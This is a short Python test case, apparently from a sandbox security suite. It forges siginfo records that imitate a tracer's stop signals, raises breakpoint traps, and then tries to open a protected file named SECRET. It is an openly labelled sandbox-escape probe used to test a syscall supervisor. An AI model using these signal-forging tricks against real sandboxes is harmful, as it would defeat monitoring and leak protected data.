# SPDX-License-Identifier: Apache-2.0
# attack: SIGTRAP, SIGSYS, SIGSTOP, SIGCHLD and SIGCONT for itself with forged siginfo of a tracer's stops
# class: signals
# wins: leak
from kit import *

tried()
for sig in (5, 31, 17, 18):
    sigaction(sig, code(RET), 4)
me, tid = os.getpid(), threading.get_native_id()
for sig in (5, 31, 17, 18):
    for c in (0x80, 5 | 7 << 8, 5 | 0x80, 5 | 4 << 8, 5 | 128 << 8, 1, 2, -6, -1, 6, 4, 0x10000, 0):
        info = ctypes.create_string_buffer(struct.pack('<iiiiQ', sig, 0, c, 0, 0) + bytes(104), 128)
        sc('rt_sigqueueinfo', me, sig, info)
        sc('rt_tgsigqueueinfo', me, tid, sig, info)
        took(openat(SECRET))
        took(openat(GOOD))
int3 = function('ccc3')
for i in range(50):
    int3()
    took(openat(SECRET))
